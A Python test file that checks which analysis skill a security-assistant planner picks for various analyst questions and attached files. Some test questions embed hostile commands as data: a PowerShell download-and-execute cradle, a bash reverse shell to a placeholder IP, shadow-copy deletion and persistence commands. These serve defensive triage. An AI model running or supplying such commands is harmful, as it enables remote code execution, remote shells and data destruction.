# ruff: noqa: E501 - what people type is as long as it is
"""Which tool answers which question: what people type, with the files that they attach.

A row is a question, the labels of its files and the skill that answers it.
"""

import pytest

from svc.assistant.analyst.plan import make_plan, read_question
from svc.assistant.turn import TurnFile

TEXT_TYPES = {
    "authlog": "text/plain",
    "eml": "message/rfc822",
    "javascript": "text/javascript",
    "json": "application/json",
    "markdown": "text/markdown",
    "pem": "application/x-pem-file",
    "powershell": "text/plain",
    "python": "text/python",
    "shell": "text/x-shellscript",
    "txt": "text/plain",
    "vba": "text/plain",
    "weblog": "text/plain",
}


def file(label):
    mime_type = TEXT_TYPES.get(label, "application/octet-stream")
    return TurnFile(name=f"evidence.{label}", size=10, sha256="", mime_type=mime_type, label=label, source=b"x")


QUESTIONS = [
    ("score CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H", "", "cvss"),
    ("Explain this vector AV:N/AC:L/Au:N/C:P/I:P/A:P", "", "cvss"),
    ("what is CWE-79", "", "weakness"),
    ("What is CWE-787 and how is it mitigated?", "", "weakness"),
    (
        "Which CWE is this text? A vulnerability in Foo allows remote attackers to execute arbitrary SQL commands via the id parameter.",
        "",
        "weakness",
    ),
    (
        "Analyze the following CVE description and map it to the appropriate CWE. Provide a brief justification for your choice. Ensure the last line of your response contains only the CWE ID.\n\nCVE Description: A vulnerability in Foo allows remote attackers to execute arbitrary SQL commands via the id parameter.",
        "",
        "weakness",
    ),
    (
        "What weakness does this describe: A vulnerability in Foo allows remote attackers to execute arbitrary SQL commands via the id parameter.",
        "",
        "weakness",
    ),
    ("what is CVE-2021-44228; is it exploited?", "", "cve"),
    ("Is CVE-2024-3094 exploited in the wild?", "", "cve"),
    ("CVE-2021-44228", "", "cve"),
    ("tell me about CVE-2023-23397", "", "cve"),
    ("extract the indicators from this report", "txt", "indicators"),
    ("list all IOCs", "txt", "indicators"),
    ("pull the IPs and domains out of this", "markdown", "indicators"),
    (
        "Extract the indicators of compromise from the following report:\n\nThe actor used evil[.]com.\nhxxp://bad[.]org/x\n",
        "",
        "indicators",
    ),
    ("decode this: aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ=", "", "decode"),
    ("What does this say? 68656c6c6f20776f726c642068656c6c6f", "", "decode"),
    ("Deobfuscate: SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=", "", "decode"),
    (
        "explain this PowerShell: powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')\"",
        "",
        "script",
    ),
    (
        "What does this command do?\n\npowershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')\"",
        "",
        "script",
    ),
    ("explain this one-liner: bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "", "script"),
    ("explain this script", "powershell", "script"),
    ("what does this script do?", "shell", "script"),
    ("Is this macro malicious?", "vba", "script"),
    ("analyse this javascript", "javascript", "script"),
    (
        "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')\"",
        "",
        "script",
    ),
    ("triage this mail", "eml", "mail"),
    ("is this phishing?", "eml", "mail"),
    ("Is this email suspicious?", "eml", "mail"),
    ("analyze this message", "eml", "mail"),
    ("check the headers for spoofing", "eml", "mail"),
    ("", "eml", "mail"),
    ("which accounts were brute-forced?", "authlog", "auth_log"),
    ("any failed logins?", "authlog", "auth_log"),
    ("which accounts were brute-forced?", "evtx", "events"),
    ("who logged in after failures?", "authlog", "auth_log"),
    ("does this EVTX show lateral movement?", "evtx", "events"),
    ("what happened on this host?", "winevents", "events"),
    ("Which ATT&CK techniques are in these events?", "evtx", "events"),
    ("map this log to ATT&CK", "evtx", "events"),
    ("is there credential dumping in this log?", "evtx", "events"),
    ("analyze", "evtx", "events"),
    ("show me a timeline", "evtx", "events"),
    ("Which attack techniques does this web log show?", "weblog", "events"),
    ("any SQL injection in the access log?", "weblog", "events"),
    ("what happened in this account?", "cloudtrail", "events"),
    ("find suspicious activity", "winevents", "events"),
    ("summarize this event log", "evtx", "events"),
    ("show the process tree", "winevents", "events"),
    ("is this JWT weak? eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0.", "", "token"),
    ("decode this JWT eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0.", "", "token"),
    ("eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0.", "", "token"),
    ("is this certificate weak?", "pem", "certificate"),
    ("check this certificate:\n-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----", "", "certificate"),
    ("-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----", "", "certificate"),
    (
        "map these behaviours to ATT&CK: The attackers dumped LSASS memory and moved laterally with PsExec.",
        "",
        "behaviours",
    ),
    ("Which MITRE ATT&CK technique is described: The malware creates a Run key for persistence.", "", "behaviours"),
    ("Which technique does this sentence describe? The malware injects code into explorer.exe.", "", "behaviours"),
    ("map this report to ATT&CK", "txt", "behaviours"),
    ("what TTPs are in this report?", "txt", "behaviours"),
    (
        "Which ATT&CK technique is this command: reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d c:\\x.exe",
        "",
        "script",
    ),
    ("map this command to ATT&CK: schtasks /create /tn x /tr c:\\x.exe /sc daily", "", "script"),
    ("Which technique does this command show?\n\nwmic shadowcopy delete", "", "script"),
    ("what is T1059.001?", "", "attack"),
    ("which tactic is T1003?", "", "attack"),
    ("What is technique T1566?", "", "attack"),
    ("list the techniques of tactic lateral movement", "", "attack"),
    ("inspect this PE", "pebin", "program"),
    ("is this malware?", "pebin", "program"),
    ("what does this binary do?", "elf", "program"),
    ("analyze this file", "pebin", "program"),
    ("what imports does it have", "pebin", "program"),
    ("does this document have macros?", "docx", "office"),
    ("inspect this Office file", "ole", "office"),
    ("is this PDF malicious?", "pdf", "pdf"),
    ("analyze this document", "pdf", "pdf"),
    ("what does this shortcut do", "lnk", "shortcut"),
    ("what is in this pcap?", "pcap", "pcap"),
    ("any beaconing?", "pcap", "pcap"),
    ("who are the top talkers?", "pcap", "pcap"),
    ("extract the indicators", "pcap", "pcap"),
    ("what hash is this? 5f4dcc3b5aa765d61d8327deb882cf99", "", "hash_kind"),
    ("identify this hash: $2b$12$EixZaYVK1fsbw1ZfbX3OXePaWxn96p36WQoeG6Lruj3vjPGga31lW", "", "hash_kind"),
    ("review this code", "python", "code_review"),
    ("review this config:\n\nPermitRootLogin yes\nPasswordAuthentication yes\n", "", "code_review"),
    ("Are these HTTP headers secure?\n\nHTTP/1.1 200 OK\nServer: Apache/2.4.1\nSet-Cookie: a=b\n", "", "code_review"),
    ("find vulnerabilities in this code:\n```python\nimport os\nos.system(input())\n```", "", "code_review"),
    ("is log4j-core@2.14.1 affected by >=2.0,<2.15.0?", "", "versions"),
    ("Is lodash 4.17.15 affected by <4.17.21", "", "versions"),
    ("is package openssl 3.0.5 in the range >=3.0.0,<3.0.7", "", "versions"),
    ("what is in this archive?", "zip", "archive"),
    ("list the contents", "zip", "archive"),
    ("is there malware in this zip?", "zip", "archive"),
    ("rot13: phey uggc://rivy.pbz/n", "", "decode"),
    ("is `find / -perm -4000 -type f 2>/dev/null` malicious?", "", "script"),
    ("how do I detect pass-the-hash?", "", "attack"),
    ("CVE-2021-44228 details pls", "", "cve"),
    ("is 8.8.8.8 malicious?", "", "indicators"),
    ("Classify the vulnerability: 'SQL injection in the login form lets attackers run SQL.'", "", "weakness"),
    ("Is 1.10.0 in >=1.9, <1.10?", "", "versions"),
    ("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", "", "hash_kind"),
    ("hello", "", ""),
    ("what can you do?", "", ""),
    ("what's the weather", "", ""),
]


@pytest.mark.parametrize(
    ("question", "label", "skill"), QUESTIONS, ids=[f"{row[0][:50]}|{row[1]}" for row in QUESTIONS]
)
def test_a_question_finds_its_tool(question, label, skill):
    plan = make_plan(read_question(question, [file(label)] if label else [], use_experimental=True))
    assert [planned.skill.name for planned in plan.skills] == ([skill] if skill else [])
